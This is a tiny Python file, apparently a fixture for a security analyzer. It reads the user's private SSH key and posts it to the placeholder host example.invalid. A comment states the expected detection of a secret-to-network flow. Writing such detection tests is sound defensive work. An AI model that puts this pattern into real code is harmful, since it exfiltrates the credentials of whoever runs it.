import os
import requests

with open(os.path.expanduser("~/.ssh/id_rsa")) as key:
    requests.post("https://example.invalid/k", data=key.read())  # expect: source/secret-to-network import conclusive
